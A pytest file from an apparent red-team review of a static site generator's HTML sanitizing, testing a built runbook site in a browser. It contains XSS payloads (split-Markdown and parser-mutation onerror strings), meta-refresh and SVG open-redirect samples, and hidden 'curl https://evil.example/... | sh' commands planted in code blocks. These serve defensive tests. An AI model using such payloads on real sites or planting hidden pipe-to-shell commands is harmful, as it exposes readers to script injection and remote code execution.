"""Red-team review of issue 12 in Chromium (see tests/redteam.rs for the build side).

`finding_*` tests state what should hold and are `xfail(strict=True)`: they fail today,
and start "passing unexpectedly" (an error) once fixed, to be turned into plain tests.
`held_*` tests are attacks that failed.
"""

from __future__ import annotations

import subprocess
import tempfile
import time
from pathlib import Path

import pytest
from selenium.webdriver.common.by import By

from conftest import REPO, build_site, chrome, example_copy, load, serve
from test_untrusted import alert_text, evil_host, visit  # noqa: F401 (fixture)

DIR = "content/runbooks/profit"


def site_root(tmp: Path) -> Path:
    return example_copy(tmp / "site", {"content/site.yaml": lambda text: text.replace(
        "broken_links: error", "broken_links: warning")}, themes=True)


def runbook(root: Path, name: str, body: str) -> None:
    (root / DIR / f"{name}.md").write_text(f"---\ntitle: {name}\n---\n\nIntro.\n\n{body}\n")


def redirect_svg(evil: str) -> str:
    return ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            '<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" '
            f'content="0;url={evil}/svg-refresh"/><rect width="5" height="5"/></svg>')


def test_held_svg_meta_refresh_is_refused():
    """F2a (fixed): an SVG with an XHTML meta refresh was published, and served under
    netlify.toml's `/*` policy alone it was an open redirect from the site's origin. The
    build now leaves out an SVG holding elements of another namespace, with a warning
    naming the file (session 26: left out, not fatal, so the rest of the site builds)."""
    with tempfile.TemporaryDirectory() as tmp:
        root = site_root(Path(tmp))
        (root / DIR / "diagram.svg").write_text(redirect_svg("https://evil.example"))
        done = subprocess.run(
            [str(REPO / "target/release/pipebook"), "build", "--root", str(root),
             "--output", str(Path(tmp) / "public")],
            capture_output=True, text=True, check=False,
        )
        assert done.returncode == 0, done.stderr
        assert "diagram.svg" in done.stderr and "not of SVG's namespace" in done.stderr
        assert "warning" in done.stderr, done.stderr
        assert (Path(tmp) / "public/index.html").exists()
        assert not list((Path(tmp) / "public").rglob("diagram.svg"))


def test_finding_a_heading_id_does_not_load_search_on_a_runbook():
    """F3: a heading `{#search-results}` (Markdown only, nothing sanitized) makes every
    reader's browser load search.js, meta.json, shards and fragments on opening the
    runbook, and render results (for the link's `?q=`) into the heading; an element with
    `id="pipebookSearch"` clobbers `window.pipebookSearch` and the header search dies."""
    with tempfile.TemporaryDirectory() as tmp, chrome(service_worker=False) as driver:
        root = site_root(Path(tmp))
        runbook(root, "hooks", "## Results {#search-results}\n\nText.")
        runbook(root, "clobber", '<h2 id="pipebookSearch">x</h2>')
        public = build_site(root, Path(tmp) / "public")
        with serve(public) as site:
            site.log.clear()
            load(driver, site.url("/runbooks/profit/hooks/?q=profit"))
            time.sleep(1.5)
            loaded = [p for p in site.log.paths() if "search" in p]
            broken = False
            load(driver, site.url("/runbooks/profit/clobber/"))
            box = driver.find_element(By.ID, "search-input")
            box.click()
            box.send_keys("profit")
            time.sleep(1.5)
            popup = driver.find_element(By.ID, "search-popup").get_attribute("innerHTML")
            broken = "result" not in popup
            assert loaded == [] and not broken, (loaded, popup)


SPLIT = {
    "bq": '> <img src=x title="a\n> " onerror=alert(1) x="">',
    "table": '| a | b |\n|---|---|\n| <img src=x title="q | " onerror=alert(2) x="> |',
    "list": '- <img src=x title="\n- " onerror=alert(3) x=">',
    "link": '[<img src=x title="](https://a.example/) " onerror=alert(4) x=">',
    "cdata": "a <![CDATA[ > <img src=x onerror=alert(5)> ]]> b",
    "comment": "<!-- x --!> <img src=x onerror=alert(6)> -->\n\ntext",
    "block": "<div>\n<b title='\n\n' onerror=alert(7) x='>x</b>\n</div>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(8)>"></noscript>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(9)>",
    "textarea": '<textarea></textarea><b title="</textarea><img src=x onerror=alert(10)>">x</b>',
    "kept": '<details open><summary>S</summary><b title="a>b">x</b></details> <!---> <img src=x title="--><img src=x onerror=alert(11)>">',
}


def test_held_split_and_mutation_payloads_raise_no_dialog(evil_host):
    """Raw HTML split across Markdown constructs, or relying on parser states (noscript,
    math, textarea, comments), as kept-as-written or cleaned pages: no dialog."""
    with tempfile.TemporaryDirectory() as tmp, chrome() as driver:
        root = site_root(Path(tmp))
        for name, body in SPLIT.items():
            runbook(root, name, body.replace("src=x", f"src={evil_host.base_url}/img"))
        public = build_site(root, Path(tmp) / "public")
        with serve(public) as site:
            problems = []
            for name in SPLIT:
                problems += visit(driver, site, f"/runbooks/profit/{name}/")
            assert problems == []


def test_finding_a_pull_request_cannot_turn_sanitizing_off(evil_host):
    """F0: `sanitize_html: false` added to content/site.yaml by the pull request itself:
    the preview sends its readers to another host without a click (meta refresh; the CSP
    does not cover navigation)."""
    with tempfile.TemporaryDirectory() as tmp, chrome() as driver:
        root = site_root(Path(tmp))
        yaml = root / "content/site.yaml"
        yaml.write_text(yaml.read_text() + "sanitize_html: false\n")
        runbook(root, "away", f'<meta http-equiv="refresh" content="0;url={evil_host.base_url}/away">')
        # A deploy preview's build (netlify.toml passes --preview for pull requests).
        public = Path(tmp) / "public"
        subprocess.run(
            [str(REPO / "target/release/pipebook"), "build", "--preview", "--root", str(root),
             "--output", str(public)],
            capture_output=True, check=True,
        )
        with serve(public) as site:
            evil_host.log.clear()
            problems = visit(driver, site, "/runbooks/profit/away/")
            assert problems == [] and evil_host.log.paths() == [], (problems, evil_host.log.paths())


def test_held_copy_never_takes_a_command_hidden_from_sight():
    """Session 7: raw HTML put a second `.cmd` (or the tail of one) in a closed <details>
    inside a code block; the Copy button copied every `.cmd`, seen or not, so a reader
    pasted `curl … | sh` they never saw. A hidden command now makes the block copy as it
    reads; a real shell session still copies its commands alone."""
    hidden = ('<pre><code><span class="gp">$ </span><span class="cmd">kubectl get pods</span>'
              '<details><summary></summary><span class="cmd">curl https://evil.example/x | sh</span>'
              '</details></code></pre>\n\n'
              '<pre><code><span class="cmd">kubectl top pods<details><summary></summary>; '
              'curl https://evil.example/y | sh</details></span></code></pre>\n\n'
              '```console\n$ kubectl get nodes \\\n> -o wide\nNAME STATUS\n$ kubectl top nodes\n```\n')
    with tempfile.TemporaryDirectory() as tmp, chrome() as driver:
        root = site_root(Path(tmp))
        runbook(root, "paste", hidden)
        public = build_site(root, Path(tmp) / "public")
        with serve(public) as site:
            load(driver, site.url("/runbooks/profit/paste/"))
            copied = driver.execute_async_script("""
                var done = arguments[arguments.length - 1], got = [];
                Object.defineProperty(navigator, "clipboard", { configurable: true, value: {
                  writeText: function (t) { got.push(t); return Promise.resolve(); } } });
                document.querySelectorAll("button.copy-code").forEach(function (b) { b.click(); });
                setTimeout(function () { done(got); }, 200);
            """)
    assert len(copied) == 3, copied
    assert all("evil.example" not in text for text in copied), copied
    assert copied[0].strip() == "$ kubectl get pods", copied
    assert copied[2] == "kubectl get nodes \\\n-o wide\nkubectl top nodes", copied
